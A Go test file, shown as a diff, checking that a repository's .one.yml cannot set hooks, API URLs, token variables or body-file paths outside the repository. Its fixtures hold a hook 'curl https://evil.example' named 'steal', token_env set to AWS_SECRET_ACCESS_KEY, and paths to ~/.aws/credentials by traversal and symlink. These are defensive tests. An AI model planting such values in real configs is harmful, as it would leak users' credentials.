@@ -0,0 +1,255 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestSplitRepoValues(t *testing.T) {
+	tests := []struct {
+		name     string
+		values   map[string]interface{}
+		allowed  map[string]interface{}
+		rejected []string
+	}{
+		{
+			name: "allowed keys",
+			values: map[string]interface{}{
+				"git": map[string]interface{}{
+					"base_branch":   "develop",
+					"default_draft": true,
+					"pr":            map[string]interface{}{"reviewers": []interface{}{"bob"}},
+				},
+				"templates":       map[string]interface{}{"pr_title": "{ticket_id}"},
+				"branch_patterns": map[string]interface{}{"ticket_id": "^(X-\\d+)"},
+			},
+			allowed: map[string]interface{}{
+				"git": map[string]interface{}{
+					"base_branch":   "develop",
+					"default_draft": true,
+					"pr":            map[string]interface{}{"reviewers": []interface{}{"bob"}},
+				},
+				"templates":       map[string]interface{}{"pr_title": "{ticket_id}"},
+				"branch_patterns": map[string]interface{}{"ticket_id": "^(X-\\d+)"},
+			},
+		},
+		{
+			name: "hooks, urls and tokens",
+			values: map[string]interface{}{
+				"project": map[string]interface{}{"name": "evil"},
+				"git": map[string]interface{}{
+					"base_branch": "develop",
+					"provider":    "gitlab",
+					"github": map[string]interface{}{
+						"base_url":  "https://evil.example",
+						"token_env": "AWS_SECRET_ACCESS_KEY",
+					},
+				},
+				"hooks":  map[string]interface{}{"before_pr": []interface{}{"curl evil"}},
+				"ticket": map[string]interface{}{"base_url": "https://evil.example"},
+			},
+			allowed: map[string]interface{}{
+				"git": map[string]interface{}{"base_branch": "develop"},
+			},
+			rejected: []string{"git.github", "git.provider", "hooks", "project", "ticket"},
+		},
+		{
+			name: "only rejected keys under git",
+			values: map[string]interface{}{
+				"git": map[string]interface{}{"remote": "evil"},
+			},
+			allowed:  map[string]interface{}{},
+			rejected: []string{"git.remote"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			allowed, rejected := splitRepoValues(tt.values, "")
+			if !reflect.DeepEqual(allowed, tt.allowed) {
+				t.Errorf("allowed = %v, want %v", allowed, tt.allowed)
+			}
+			if !reflect.DeepEqual(rejected, tt.rejected) {
+				t.Errorf("rejected = %v, want %v", rejected, tt.rejected)
+			}
+		})
+	}
+}
+
+func TestResolveProjectConfigLayers(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", "")
+	t.Setenv("ONE_GIT_REMOTE", "upstream")
+
+	repo := filepath.Join(home, "repo")
+	writeFile(t, filepath.Join(repo, ".git", "HEAD"), "ref: refs/heads/main\n")
+	writeFile(t, filepath.Join(home, ".config", "one", "config.yml"), `
+defaults:
+  git:
+    base_branch: develop
+`)
+	projectFile := filepath.Join(home, ".config", "one", "projects", "p.yml")
+	writeFile(t, projectFile, `
+project:
+  name: p
+  paths: [`+repo+`]
+git:
+  provider: github
+  github:
+    owner: acme
+    repo: app
+    token_env: GITHUB_TOKEN
+`)
+	writeFile(t, filepath.Join(repo, RepoConfigFile), `
+git:
+  default_draft: true
+  github:
+    token_env: AWS_SECRET_ACCESS_KEY
+hooks:
+  before_pr:
+    - name: steal
+      command: curl https://evil.example
+`)
+
+	cfg, err := resolveProjectConfig(projectFile, repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		key, got, want, source string
+	}{
+		{"git.remote", cfg.Git.Remote, "upstream", "$ONE_GIT_REMOTE"},
+		{"git.base_branch", cfg.Git.BaseBranch, "develop", filepath.Join(home, ".config", "one", "config.yml")},
+		{"git.provider", cfg.Git.Provider, "github", projectFile},
+		{"git.github.token_env", cfg.Git.GitHub.TokenEnv, "GITHUB_TOKEN", projectFile},
+	}
+	for _, tt := range tests {
+		if tt.got != tt.want {
+			t.Errorf("%s = %q, want %q", tt.key, tt.got, tt.want)
+		}
+		if source := cfg.Sources()[tt.key]; source != tt.source {
+			t.Errorf("source of %s = %q, want %q", tt.key, source, tt.source)
+		}
+	}
+
+	if !cfg.Git.DefaultDraft {
+		t.Error("git.default_draft from .one.yml was not applied")
+	}
+	if cfg.Hooks != nil && len(cfg.Hooks.BeforePR) > 0 {
+		t.Errorf("hooks from .one.yml were applied: %+v", cfg.Hooks.BeforePR)
+	}
+}
+
+func TestValidateRepoFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), RepoConfigFile)
+	writeFile(t, path, `git:
+  base_branch: develop
+  gitlab:
+    base_url: https://evil.example
+hooks:
+  after_merge: []
+`)
+
+	diags := ValidateRepoFile(path)
+	want := []struct {
+		line int
+		key  string
+	}{{3, "git.gitlab"}, {5, "hooks"}}
+	if len(diags) != len(want) {
+		t.Fatalf("got %d diagnostics, want %d: %v", len(diags), len(want), diags)
+	}
+	for i, w := range want {
+		if diags[i].Line != w.line || diags[i].Severity != SeverityError {
+			t.Errorf("diagnostic %d = %v, want an error on line %d", i, diags[i], w.line)
+		}
+	}
+}
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestCheckRepoBodyFile(t *testing.T) {
+	home := t.TempDir()
+	repo := filepath.Join(home, "repo")
+	writeFile(t, filepath.Join(repo, ".git", "HEAD"), "ref: refs/heads/main\n")
+	writeFile(t, filepath.Join(repo, ".github", "pr.md"), "## Summary\n")
+	writeFile(t, filepath.Join(home, ".aws", "credentials"), "secret\n")
+	if err := os.Symlink(filepath.Join(home, ".aws", "credentials"), filepath.Join(repo, "linked.md")); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name string
+		path string
+		ok   bool
+	}{
+		{"repository file", ".github/pr.md", true},
+		{"missing repository file", "docs/pr.md", true},
+		{"home directory", "~/.aws/credentials", false},
+		{"absolute path", filepath.Join(home, ".aws", "credentials"), false},
+		{"parent directory", "../.aws/credentials", false},
+		{"symlink out of the repository", "linked.md", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			values := map[string]interface{}{
+				"templates": map[string]interface{}{"pr_body_file": tt.path},
+			}
+			// .one.yml in a subdirectory is checked against the repository root
+			err := checkRepoBodyFile(values, filepath.Join(repo, "sub", RepoConfigFile))
+			if (err == nil) != tt.ok {
+				t.Errorf("checkRepoBodyFile(%q) = %v, want ok %v", tt.path, err, tt.ok)
+			}
+		})
+	}
+}
+
+func TestResolveProjectConfigRepoBodyFile(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", "")
+
+	repo := filepath.Join(home, "repo")
+	writeFile(t, filepath.Join(repo, ".git", "HEAD"), "ref: refs/heads/main\n")
+	projectFile := filepath.Join(home, ".config", "one", "projects", "p.yml")
+	writeFile(t, projectFile, `
+project:
+  name: p
+  paths: [`+repo+`]
+templates:
+  pr_body_file: ~/templates/pr.md
+`)
+	writeFile(t, filepath.Join(repo, RepoConfigFile), `
+templates:
+  pr_title: "{ticket_id}"
+  pr_body_file: ~/.aws/credentials
+`)
+
+	cfg, err := resolveProjectConfig(projectFile, repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Templates.PRBodyFile != "~/templates/pr.md" {
+		t.Errorf("pr_body_file = %q, want the project file's value", cfg.Templates.PRBodyFile)
+	}
+	if cfg.Templates.PRTitle != "{ticket_id}" {
+		t.Errorf("pr_title = %q, want the .one.yml value", cfg.Templates.PRTitle)
+	}
+
+	diags := ValidateRepoFile(filepath.Join(repo, RepoConfigFile))
+	if len(diags) != 1 || diags[0].Line != 4 {
+		t.Errorf("diagnostics = %v, want one error on line 4", diags)
+	}
+}